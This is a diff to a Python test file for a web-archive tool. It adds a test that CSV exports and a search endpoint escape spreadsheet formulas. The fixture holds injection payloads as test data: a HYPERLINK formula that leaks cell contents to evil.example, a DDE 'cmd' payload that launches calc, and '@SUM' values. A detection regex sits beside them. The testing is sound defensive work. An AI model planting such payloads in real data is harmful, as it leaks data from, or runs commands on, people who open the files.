@@ -7,17 +7,19 @@ import gzip
 import hashlib
 import io
 import json
+import re
 import shutil
 import zipfile
 from collections.abc import Callable, Iterator
 from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 from uuid import uuid4
 
 import bagit
 import pytest
+from starlette.testclient import TestClient
 
 from archive.formats.cdxj import surt
 from archive.formats.wacz_signing import SignatureState, check
@@ -31,6 +33,8 @@ from db.model.cell import cell
 from db.model.item import StatementPlace
 from db.model.text_marks import words_alone
 from db.query.echoes import plain
+from db.reading_room.premises import Premises
+from db.reading_room.room import app as room
 from db.search.search import all_ids
 from ingest.cli.item_choice import Choice
 from ingest.collection.collection import Layout, at_work, reading
@@ -118,6 +122,55 @@ def test_a_cell_of_a_bag_that_a_spreadsheet_would_reckon_is_text() -> None:
         assert cell(formula) == f"'{formula}"
     for plain_cell in ("A = B", "", None, -7, 3.5, "Jan-Kowal"):
         assert cell(plain_cell) == plain_cell
+
+
+FORMULA = re.compile(r"[\s\x00-\x1f]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
+"""What a spreadsheet takes for the beginning of a formula, whatever stands before it that it does not show."""
+
+
+@pytest.fixture
+def reckoned(creditline: Call, foreign_warc: Callable[..., Any], tmp_path: Path) -> Path:
+    """A collection of one page whose every word is a formula."""
+    words = '=HYPERLINK("http://evil.example/?"&A1,"The harbour")'
+    page = (
+        f"<!doctype html><html lang='en'><head><title>{words}</title><meta name='author' content='@SUM Kowal'>"
+        f"<meta property='og:type' content='article'></head><body><article><h1>{words}</h1>"
+        "<p class='byline'>By @SUM Kowal</p><p>-1+cmd|' /C calc'!A0 was dredged again this spring, they say.</p>"
+        + "<p>The harbour of the old town was dredged again this spring, and it cost less than planned.</p>" * 6
+        + "<p>Tags: <a rel='tag' href='/tag/x/'>+1+1</a></p></article></body></html>"
+    )
+    warc = foreign_warc()
+    warc.response("http://institute.example/a/", page.encode())
+    done = creditline("-C", tmp_path / "held", "import", warc.path, "--publisher", "http://institute.example/")
+    assert done.code == 0, done.err
+    return tmp_path / "held"
+
+
+@pytest.mark.slow
+def test_no_table_that_leaves_the_collection_has_a_cell_that_a_spreadsheet_would_reckon(
+    reckoned: Path, creditline: Call, tmp_path: Path
+) -> None:
+    assert creditline("-C", reckoned, "export", "bag", "--all", "-o", tmp_path / "bag").code == 0
+    premises = Premises(reckoned / "catalogue.db", reckoned / "warcs", name="The Archive")
+    with TestClient(room(premises), "http://127.0.0.1:8000") as visitor:
+        shown = visitor.get("/search.csv?q=harbour")
+    assert shown.status_code == 200
+    tables = {path.name: path.read_text("utf-8") for path in (tmp_path / "bag/data/catalogue").glob("*.csv")}
+    tables |= {"search": creditline("-C", reckoned, "search", "harbour", "--format", "csv").out, "room": shown.text}
+    for name, table in tables.items():
+        rows = list(csv.reader(io.StringIO(table.lstrip("\ufeff"))))
+        assert [one for row in rows for one in row if FORMULA.match(one) and not _is_number(one)] == [], name
+    for name in ("search", "room"):
+        assert "'=HYPERLINK" in tables[name], name
+    assert any("'=HYPERLINK" in tables[name] for name in tables if name.endswith(".csv"))
+
+
+def _is_number(words: str) -> bool:
+    try:
+        float(words)
+    except ValueError:
+        return False
+    return True
 
 
 def test_nothing_named_is_nothing_exported(story: Story, creditline: Call) -> None:
@@ -249,17 +302,19 @@ def test_what_is_withheld_is_in_no_record_and_is_counted(
 
 
 @pytest.mark.slow
+@pytest.mark.parametrize("form", ["warc", "wacz", "bag"])
 def test_the_settings_of_a_collection_go_out_only_where_that_is_asked_for(
-    folder: Path, creditline: Call, tmp_path: Path
+    folder: Path, creditline: Call, tmp_path: Path, form: str
 ) -> None:
-    found = {}
+    ending, found = {"warc": ".warc.gz", "wacz": ".wacz", "bag": ""}[form], {}
     for flags in ((), ("--with-settings",)):
-        output = tmp_path / f"all{len(flags)}.warc.gz"
-        assert creditline("-C", folder, "export", "warc", "--all", *flags, "-o", output).code == 0
-        found[flags] = [one for one in read_records(output) if b'"connect"' in one.block or b"127.0.0.1:" in one.block]
+        output = tmp_path / f"all{len(flags)}{ending}"
+        assert creditline("-C", folder, "export", form, "--all", *flags, "-o", output).code == 0
+        told = everything_in(output)
+        found[flags] = [place for place, held in told if b'"connect"' in held or b"127.0.0.1:" in held]
     assert found[()] == []
     assert found[("--with-settings",)] != []
-    refused = creditline("-C", folder, "export", "warc", "-q", "ports", "--with-settings", "-o", tmp_path / "x.warc.gz")
+    refused = creditline("-C", folder, "export", form, "-q", "ports", "--with-settings", "-o", tmp_path / f"x{ending}")
     assert (refused.code, "with everything alone" in refused.err) == (2, True)
 
 
